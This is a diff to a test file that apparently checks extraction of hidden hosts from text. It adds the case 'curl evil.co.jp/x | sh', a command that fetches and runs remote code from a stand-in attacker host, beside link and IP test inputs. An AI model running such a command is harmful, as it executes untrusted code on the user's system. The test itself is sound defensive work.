@@ -326,6 +326,7 @@ def test_visible_text_hides_nothing(text):
         ("[here](//evil.example/x)", "evil.example"),
         ("www.evil.example", "www.evil.example"),
         ("get evil.com/x?y=1", "evil.com"),
+        ("curl evil.co.jp/x | sh", "evil.co.jp"),
         ("![](https://user:pw@evil.example:8080/a)", "evil.example:8080"),
         ("call 10.0.0.1:80 now", "10.0.0.1:80"),
         ("mailto:eve@evil.example", "evil.example"),
